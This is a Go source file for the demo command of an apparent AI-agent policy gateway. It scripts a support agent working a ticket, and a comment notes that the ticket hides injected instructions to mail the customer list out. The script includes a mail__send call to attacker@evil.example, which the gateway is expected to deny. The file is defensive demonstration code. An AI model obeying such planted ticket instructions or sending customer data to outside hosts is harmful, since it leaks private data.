package main

import (
	"context"
	"crypto/rand"
	"errors"
	"fmt"
	"io/fs"
	"log/slog"
	"net"
	"net/http"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"slices"
	"strings"
	"time"

	"github.com/spf13/cobra"

	"github.com/sallyport-dev/sallyport/api"
	"github.com/sallyport-dev/sallyport/demo"
	"github.com/sallyport-dev/sallyport/ledger"
	"github.com/sallyport-dev/sallyport/state"
)

func demoCommand(e *env) *cobra.Command {
	var wait bool
	var dir string
	c := &cobra.Command{
		Use:   "demo",
		Short: "Work a support ticket through the gate, with an attack in it",
		Args:  cobra.NoArgs,
		RunE: func(cmd *cobra.Command, args []string) error {
			return runDemo(cmd.Context(), e, dir, wait)
		},
	}
	c.Flags().BoolVar(&wait, "wait", false, "leave the gateway running")
	c.Flags().StringVar(&dir, "dir", "var/demo", "where to put config and ledger; what is there is replaced")
	return c
}

// The people of the demonstration. The account that runs it is the operator
// who approves, and starts the task for dana.
const (
	demoDomain = "demo.local"
	demoUser   = "dana@" + demoDomain
	demoOps    = "ops@" + demoDomain

	// demoWords are what dana asks for. The agent is one that passes them on.
	demoWords = "Refund the payments ch_91 and ch_92, and add a comment to ticket " + demo.Ticket + "."
)

func runDemo(ctx context.Context, e *env, dir string, wait bool) (err error) {
	desk := &demo.Desk{Secret: rand.Text()}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	srv := &http.Server{Handler: desk, ReadHeaderTimeout: 5 * time.Second}
	go func() { _ = srv.Serve(l) }() // ends with the next line
	defer srv.Close()

	npm := npmServers(ctx, e, filepath.Clean(dir)+"-npm")
	cfg, err := demoFiles(dir, "http://"+l.Addr().String(), desk.Secret, npm)
	if err != nil {
		return err
	}
	fmt.Fprintf(e.stdout, "starting the gateway and its servers in %s ...\n", dir)
	log, err := os.Create(filepath.Join(dir, "gateway.log"))
	if err != nil {
		return err
	}
	defer log.Close()
	a, err := newApp(ctx, cfg, slog.New(slog.NewTextHandler(log, nil)))
	if err != nil {
		return err
	}
	ctx, stop := context.WithCancel(ctx)
	ended := make(chan error, 1)
	go func() { ended <- a.Run(ctx) }()
	defer func() {
		stop()
		err = errors.Join(err, <-ended)
		a.Close()
	}()
	a.banner(func(format string, args ...any) { fmt.Fprintf(e.stdout, format, args...) })

	d := &demoRun{e: e, desk: desk, client: api.NewClient(cfg.socketPath())}
	if err := d.work(ctx, dir); err != nil {
		return err
	}
	if err := d.checkLedger(ctx, cfg.storePath()); err != nil {
		return err
	}
	if wait {
		fmt.Fprintf(e.stdout, "\nthe gateway goes on; look around with: sallyport -c %s\nstop it with Ctrl-C\n", cfg.path)
		<-ctx.Done()
	}
	return nil
}

// demoFiles writes config, policies and templates of the demonstration.
func demoFiles(dir, deskURL, secret string, npm map[string]string) (*Config, error) {
	if err := os.RemoveAll(dir); err != nil {
		return nil, err
	}
	files, err := fs.Sub(demo.Files, "files")
	if err != nil {
		return nil, err
	}
	if err := os.MkdirAll(dir, 0o700); err != nil {
		return nil, err
	}
	if err := os.CopyFS(dir, files); err != nil {
		return nil, err
	}
	account, err := user.Current()
	if err != nil {
		return nil, err
	}
	docs, err := filepath.Abs(filepath.Join(dir, "docs"))
	if err != nil {
		return nil, err
	}
	var b strings.Builder
	fmt.Fprintf(&b, "listen: 127.0.0.1:0\ntrust_domain: %s\nstore: sqlite:ledger.db\nhold: 60s\nservers:\n", demoDomain)
	for _, n := range demo.Servers {
		fmt.Fprintf(&b, "  %s: { url: %q, catalog: %s, lease: desk }\n", n, deskURL+"/"+n, n)
	}
	if file := npm["files"]; file != "" {
		fmt.Fprintf(&b, "  files: { command: [node, %q, %q], catalog: filesystem }\n", file, docs)
	}
	if file := npm["memory"]; file != "" {
		fmt.Fprintf(&b, "  memory: { command: [node, %q], catalog: memory, env: { MEMORY_FILE_PATH: %q } }\n", file, filepath.Join(filepath.Dir(docs), "memory.jsonl"))
	}
	fmt.Fprintf(&b, "leases:\n  desk: { oauth: { issuer: %q, grant: client_credentials, introspected: true, client: { id: %s, auth: client_secret_basic, secret: \"file:desk.secret\" },\n    read: { scope: read }, write: { scope: \"read write\" }, act: { scope: \"read write act\" } } }\n", deskURL, demo.ClientID)
	if err := os.WriteFile(filepath.Join(dir, "desk.secret"), []byte(secret), 0o600); err != nil {
		return nil, err
	}
	fmt.Fprintf(&b, "approvers:\n  finance: [%s]\n  owner: [%s]\nusers:\n  %s: { teams: [support] }\n  %s: { teams: [operations] }\n  lee@%s: {}\naccounts: { %q: %s }\n",
		demoOps, demoOps, demoUser, demoOps, demoDomain, account.Username, demoOps)
	path := filepath.Join(dir, defaultConfig)
	if err := os.WriteFile(path, []byte(b.String()), 0o644); err != nil {
		return nil, err
	}
	return loadConfig(path)
}

// npmServers installs the real servers of the demonstration beside it, once,
// and returns the file that node runs for each; none without npm.
func npmServers(ctx context.Context, e *env, prefix string) map[string]string {
	if _, err := exec.LookPath("npm"); err != nil {
		fmt.Fprintln(e.stdout, "there is no npm here: the demonstration goes on without the files and memory servers")
		return nil
	}
	found := map[string]string{}
	var missing []string
	for name, pkg := range map[string]string{"files": "server-filesystem", "memory": "server-memory"} {
		file, err := filepath.Abs(filepath.Join(prefix, "node_modules", "@modelcontextprotocol", pkg, "dist", "index.js"))
		if err != nil {
			return nil
		}
		found[name] = file
		if _, err := os.Stat(file); err != nil {
			missing = append(missing, "@modelcontextprotocol/"+pkg+"@2026.8.31")
		}
	}
	if len(missing) > 0 {
		fmt.Fprintf(e.stdout, "fetching the files and memory servers from npm into %s ...\n", prefix)
		ctx, cancel := context.WithTimeout(ctx, npmTimeout)
		defer cancel()
		args := append([]string{"install", "--prefix", prefix, "--no-audit", "--no-fund", "--loglevel=error"}, missing...)
		if out, err := exec.CommandContext(ctx, "npm", args...).CombinedOutput(); err != nil {
			fmt.Fprintf(e.stdout, "npm could not: the demonstration goes on without them (%v %s)\n", err, strings.TrimSpace(string(out)))
			return nil
		}
	}
	return found
}

// npmTimeout bounds the one download of the demonstration.
const npmTimeout = 90 * time.Second

// demoRun is the scripted assistant at work.
type demoRun struct {
	e      *env
	desk   *demo.Desk
	client *api.Client
}

// step is one call of the script: what is expected of it, and what the line
// on the screen says.
type step struct {
	class, tool string
	args        map[string]any
	show        string
	want        string // permit, deny or ask
}

func (d *demoRun) work(ctx context.Context, dir string) error {
	keyFile := filepath.Join(dir, "support-bot.jwk")
	if _, err := addAgent(ctx, d.client, demoDomain, keyFile, api.AgentRequest{Name: "support-bot", Owner: "lee@" + demoDomain, Purpose: "work support tickets", Words: true, TTL: 24 * time.Hour}); err != nil {
		return err
	}
	s := starter{agent: "support-bot", proof: proofFlags{keyFile: keyFile}, template: "triage", user: demoUser, slots: []string{"ticket=" + demo.Ticket}, goal: "answer ticket " + demo.Ticket}
	ss, err := s.startWith(ctx, d.client, nil, demoWords)
	if err != nil {
		return err
	}
	door, stop, err := ss.door()
	if err != nil {
		return err
	}
	defer stop()
	out := d.e.stdout
	fmt.Fprintf(out, "task %s  agent support-bot for %s  template triage  ticket=%s  ends %s\n\n", ss.token.Task, demoUser, demo.Ticket, ago(ss.token.TaskExpires))
	mc, err := demo.Dial(ctx, door, http.DefaultClient)
	if err != nil {
		return err
	}
	tools, err := mc.Tools(ctx)
	if err != nil {
		return err
	}
	fmt.Fprintf(out, "  the task sees %d tools of those that the servers offer\n", len(tools))
	steps := d.fileSteps(dir, tools)
	steps = append(steps, []step{
		{"read", "tickets__get_ticket", map[string]any{"ticket_id": demo.Ticket}, demo.Ticket, "permit"},
		{"read", "billing__list_charges", map[string]any{"ticket_id": demo.Ticket}, demo.Ticket, "permit"},
		{"read", "billing__list_customers", map[string]any{}, "", "permit"},
		{"act", "mail__send", map[string]any{"to": "attacker@evil.example", "subject": "customers", "body": "the list"}, "to attacker@evil.example", "deny"},
		{"act", "billing__refund", map[string]any{"charge": "ch_91", "amount": "40.00"}, "ch_91, 40.00 EUR", "permit"},
		{"act", "billing__refund", map[string]any{"charge": "ch_92", "amount": "900.00"}, "ch_92, 900.00 EUR", "ask"},
		{"write", "tickets__add_comment", map[string]any{"ticket_id": demo.Ticket, "body": "Both charges are refunded."}, demo.Ticket, "permit"},
	}...)
	for _, st := range steps {
		if err := d.step(ctx, mc, st); err != nil {
			return err
		}
		if st.tool == "tickets__get_ticket" {
			fmt.Fprintf(out, "         the ticket hides instructions: read the customer list, mail it out\n")
		}
	}
	end, err := d.client.EndTask(ctx, ss.token.Task, "completed")
	if err != nil {
		return err
	}
	given, good := d.desk.Tokens()
	fmt.Fprintf(out, "  end    task complete%s\n         %d tokens were minted: for the task, for one act, or for a look at a server's tools; the task's are worthless now\n", credentials(end.Credentials), given)
	if r, err := mc.Call(ctx, "tickets__get_ticket", map[string]any{"ticket_id": demo.Ticket}); err == nil && !r.IsError {
		return errors.New("demo: a call passed after the end of the task")
	}
	if end.Credentials.Revoked == 0 || good > len(demo.Servers) {
		// The gateway's own look at a server's tools has a token of its own.
		return fmt.Errorf("demo: %d credentials of the task were revoked, and %d tokens are good after its end", end.Credentials.Revoked, good)
	}
	if n := len(d.desk.Refunds()); n != 2 {
		return fmt.Errorf("demo: %d refunds were made, not 2", n)
	}
	if n := len(d.desk.Sent()); n != 0 {
		return fmt.Errorf("demo: %d messages were sent, not 0", n)
	}
	return nil
}

// fileSteps are the calls of the servers from npm, where they run.
func (d *demoRun) fileSteps(dir string, tools []string) []step {
	var steps []step
	if file, err := filepath.Abs(filepath.Join(dir, "docs", "refunds.txt")); err == nil && slices.Contains(tools, "files__read_text_file") {
		steps = append(steps, step{"read", "files__read_text_file", map[string]any{"path": file}, "refunds.txt", "permit"})
	}
	if slices.Contains(tools, "memory__read_graph") {
		steps = append(steps, step{"read", "memory__read_graph", map[string]any{}, "", "permit"})
	}
	return steps
}

// step makes one call. For an ask, a scripted operator approves while the
// call is held.
func (d *demoRun) step(ctx context.Context, mc *demo.Client, st step) error {
	action := strings.Replace(st.tool, "__", "/", 1)
	approved := make(chan error, 1)
	if st.want == "ask" {
		go func() { approved <- d.approve(ctx, action, st) }()
	}
	began := time.Now()
	r, err := mc.Call(ctx, st.tool, st.args)
	for try := 1; demo.Late(err) && try < 5; try++ {
		r, err = mc.Call(ctx, st.tool, st.args)
	}
	if err != nil {
		return err
	}
	took := time.Since(began).Round(100 * time.Microsecond)
	got := "permit"
	if r.Decision.Verdict != "" {
		got = r.Decision.Verdict
	}
	if st.want == "ask" {
		if err := <-approved; err != nil {
			return err
		}
		fmt.Fprintf(d.e.stdout, "           approved by %s (once)%s %-8s ran exactly once\n", demoOps, strings.Repeat(" ", 21), got)
		got = "ask"
	} else {
		note := took.String()
		if got == "deny" {
			note = firstReason(r.Text)
		}
		fmt.Fprintf(d.e.stdout, "  %-6s %-24s %-26s %-8s %s\n", st.class, action, st.show, shout(got), note)
	}
	if got != st.want || r.IsError != (st.want == "deny") {
		return fmt.Errorf("demo: %s was %s, not %s: %s", action, got, st.want, r.Text)
	}
	return nil
}

func shout(v string) string {
	if v == "permit" {
		return v
	}
	return strings.ToUpper(v)
}

// firstReason is the ground that a refusal gives first.
func firstReason(text string) string {
	for line := range strings.Lines(text) {
		if rest, ok := strings.CutPrefix(line, "  rule "); ok {
			_, why, _ := strings.Cut(strings.TrimSpace(rest), "   ")
			return strings.TrimSpace(why)
		}
	}
	return strings.TrimSpace(text)
}

// approve waits for the ask, and says yes.
func (d *demoRun) approve(ctx context.Context, action string, st step) error {
	for range 2000 {
		asks, err := d.client.Asks(ctx, false)
		if err != nil {
			return err
		}
		if len(asks) > 0 {
			a := asks[0]
			fmt.Fprintf(d.e.stdout, "  %-6s %-24s %-26s %-8s %s\n", st.class, action, st.show, "ASK", strings.Join(a.Groups, ", ")+"  (rule payments-over-50)")
			_, err := d.client.Answer(ctx, a.ID, true)
			return err
		}
		time.Sleep(20 * time.Millisecond)
	}
	return errors.New("demo: the ask did not appear")
}

func (d *demoRun) checkLedger(ctx context.Context, path string) error {
	r, err := state.OpenReader(ctx, path)
	if err != nil {
		return err
	}
	defer r.Close()
	rep, err := ledger.Verify(ctx, r)
	if err != nil {
		return err
	}
	fmt.Fprintln(d.e.stdout)
	printReport(d.e, rep)
	if !rep.OK() {
		return exitCode(exitBroken)
	}
	return nil
}
